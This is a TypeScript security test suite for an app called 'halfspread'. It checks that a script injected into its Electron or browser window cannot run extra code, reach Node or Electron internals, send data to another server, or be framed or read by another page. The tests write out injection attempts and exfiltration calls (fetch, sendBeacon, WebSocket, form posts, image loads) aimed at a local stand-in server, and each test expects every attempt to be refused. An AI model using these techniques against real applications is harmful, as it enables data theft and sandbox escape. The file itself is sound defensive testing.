/** What a script that got into the window could try, and what another page could, in real engines. */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openBrowserShell, openElectron, openElectronAnswers, type AttackedPage } from './attacked-pages.ts';
import { hasChromium } from './halfspread-window.ts';
import { windowHost } from './window-host.ts';

/** Somebody else's server: it would take anything, and notes who came. */
let elsewhere: Server;
let elsewhereUrl: string;
let visits: string[] = [];

beforeAll(async () => {
  elsewhere = createServer((request, response) => {
    visits.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' }).end('<p>elsewhere');
  });
  elsewhere.on('upgrade', (request, socket) => {
    visits.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
  elsewhereUrl = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
});
afterAll(() => new Promise((resolve) => elsewhere.close(resolve)));

const hosts: [string, () => Promise<AttackedPage>][] =
  windowHost.kind === 'electron'
    ? [['Electron', openElectron]]
    : [
        ['the browser shell', openBrowserShell],
        ['Electron’s answers and preload in Chromium', openElectronAnswers],
      ];

describe.skipIf(!windowHost.canRun).each(hosts)('a script inside the window, in %s', (_name, open) => {
  let attacked: AttackedPage;

  beforeAll(async () => {
    attacked = await open();
  }, 120_000);
  afterAll(() => attacked?.stop());

  it('finds a window that drew itself without a breach of its policy, and keeps nothing', async () => {
    expect(await attacked.page.locator('header.top').innerText()).toContain('PRACTICE');
    expect(attacked.problems).toEqual([]);
    expect(
      await attacked.page.evaluate(() => ({
        local: Object.keys(localStorage),
        session: Object.keys(sessionStorage),
        cookie: document.cookie,
      })),
    ).toEqual({ local: [], session: [], cookie: '' });
  });

  it('finds no Node and no door of Electron but the bridge', async () => {
    const found = await attacked.page.evaluate(() => {
      const names = ['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer', '__dirname'];
      const bridge = 'halfspread' in window ? Object.keys(window.halfspread as object) : ['call', 'on'];
      return { doors: names.filter((name) => name in globalThis), bridge };
    });
    expect(found).toEqual({ doors: [], bridge: ['call', 'on'] });
  });

  it('runs no code that was not served: inline, evaluated, of another origin, or in a worker of its making', async () => {
    const ran = await attacked.page.evaluate(async (elsewhere) => {
      const marks = window as unknown as Record<string, unknown>;
      const inline = document.createElement('script');
      inline.textContent = 'window.ranInline = true';
      document.body.append(inline);
      setTimeout('window.ranEvaluated = true', 0);
      const foreign = document.createElement('script');
      foreign.src = `${elsewhere}/script.js`;
      document.body.append(foreign);
      const worker = await new Promise<string>((resolve) => {
        try {
          const made = new Worker(URL.createObjectURL(new Blob(['postMessage("ran")'])));
          made.onmessage = () => resolve('ran');
          made.onerror = () => resolve('refused');
        } catch {
          resolve('refused');
        }
      });
      const handler = document.createElement('img');
      handler.setAttribute('onerror', 'window.ranHandler = true');
      handler.src = 'data:image/png;base64,AA==';
      document.body.append(handler);
      await new Promise((resolve) => setTimeout(resolve, 300));
      return { worker, marks: ['ranInline', 'ranEvaluated', 'ranHandler'].filter((name) => name in marks) };
    }, elsewhereUrl);
    expect(ran).toEqual({ worker: 'refused', marks: [] });
    expect(visits).toEqual([]);
  });

  it('carries nothing out: no request of any kind reaches another server', async () => {
    const outcome = await attacked.page.evaluate(async (elsewhere) => {
      const settled = (promise: Promise<unknown>) =>
        promise.then(
          () => 'got through',
          () => 'refused',
        );
      const add = <Tag extends keyof HTMLElementTagNameMap>(
        tag: Tag,
        properties: Partial<HTMLElementTagNameMap[Tag]>,
      ): void => {
        document.body.append(Object.assign(document.createElement(tag), properties));
      };
      add('img', { src: `${elsewhere}/image` });
      add('iframe', { src: `${elsewhere}/frame` });
      add('object', { data: `${elsewhere}/object` });
      add('video', { src: `${elsewhere}/video` });
      add('link', { rel: 'stylesheet', href: `${elsewhere}/style` });
      add('link', { rel: 'prefetch', href: `${elsewhere}/prefetch` });
      add('link', { rel: 'manifest', href: `${elsewhere}/manifest` });
      const form = Object.assign(document.createElement('form'), { action: `${elsewhere}/form`, method: 'post' });
      document.body.append(form);
      form.submit();
      navigator.sendBeacon(`${elsewhere}/beacon`, 'x');
      const socket = await new Promise<string>((resolve) => {
        try {
          const opened = new WebSocket(`${elsewhere.replace('http', 'ws')}/socket`);
          opened.onopen = () => resolve('got through');
          opened.onerror = () => resolve('refused');
        } catch {
          resolve('refused');
        }
      });
      const fetched = await settled(fetch(`${elsewhere}/fetch`));
      const blind = await settled(fetch(`${elsewhere}/fetch`, { mode: 'no-cors' }));
      const events = new EventSource(`${elsewhere}/events`);
      await new Promise((resolve) => setTimeout(resolve, 300));
      events.close();
      return { socket, fetched, blind };
    }, elsewhereUrl);
    expect(outcome).toEqual({ socket: 'refused', fetched: 'refused', blind: 'refused' });
    expect(visits).toEqual([]);
  });

  it('is granted no camera, microphone or place', async () => {
    const granted = await attacked.page.evaluate(async () => {
      const states: string[] = [];
      for (const name of ['camera', 'microphone', 'geolocation'] as PermissionName[]) {
        states.push((await navigator.permissions.query({ name })).state);
      }
      const media = await navigator.mediaDevices.getUserMedia({ audio: true, video: true }).then(
        () => 'granted',
        () => 'denied',
      );
      return [...states, media];
    });
    expect(granted).toEqual(['denied', 'denied', 'denied', 'denied']);
  });

  // A browser's tab may open others, and its person leads it where they like.
  if (windowHost.kind === 'electron')
    it('opens no window and leaves its page for no other', async () => {
      expect(await attacked.page.evaluate((url) => window.open(url) === null, elsewhereUrl)).toBe(true);
      await attacked.page.evaluate((url) => (location.href = url), `${elsewhereUrl}/away`);
      await attacked.page.waitForTimeout(500);
      expect(attacked.page.url()).toMatch(/^app:\/\/halfspread\//);
      expect(visits).toEqual([]);
    });
});

describe.skipIf(!hasChromium || windowHost.kind === 'electron')('another page of the same browser', () => {
  it('gets neither the window in a frame, nor its files, nor its calls, nor a hold on it', async () => {
    visits = [];
    const attacked = await openBrowserShell();
    try {
      // Same browser, same cookies; 127.0.0.1 on another port is even the same site.
      const other = await attacked.page.context().newPage();
      await other.goto(`${elsewhereUrl}/`);
      const outcome = await other.evaluate(async (origin) => {
        const frame = Object.assign(document.createElement('iframe'), { src: `${origin}/` });
        const framed = await new Promise<string>((resolve) => {
          frame.onload = () => resolve(frame.contentDocument ? 'readable' : 'closed');
          document.body.append(frame);
        });
        const script = await new Promise<string>((resolve) => {
          const added = Object.assign(document.createElement('script'), { src: `${origin}/index.html` });
          added.onload = () => resolve('loaded');
          added.onerror = () => resolve('refused');
          document.body.append(added);
        });
        const socket = await new Promise<string>((resolve) => {
          const opened = new WebSocket(`${origin.replace('http', 'ws')}/ipc`);
          opened.onopen = () => resolve('open');
          opened.onerror = () => resolve('refused');
        });
        const read = await fetch(`${origin}/`, { credentials: 'include' }).then(
          () => 'read',
          () => 'refused',
        );
        const opened = window.open(`${origin}/`);
        await new Promise((resolve) => setTimeout(resolve, 500));
        return { framed, script, socket, read, hold: opened === null || opened.closed ? 'none' : 'window' };
      }, attacked.origin);
      expect(outcome).toEqual({
        framed: 'closed',
        script: 'refused',
        socket: 'refused',
        read: 'refused',
        hold: 'none',
      });
      // "Closed" is also a frame that shows the window to its person: it must show the refusal instead.
      const frames = other.frames().map((frame) => frame.url());
      expect(frames.filter((url) => url.startsWith(attacked.origin))).toEqual([]);
    } finally {
      await attacked.stop();
    }
  }, 60_000);
});
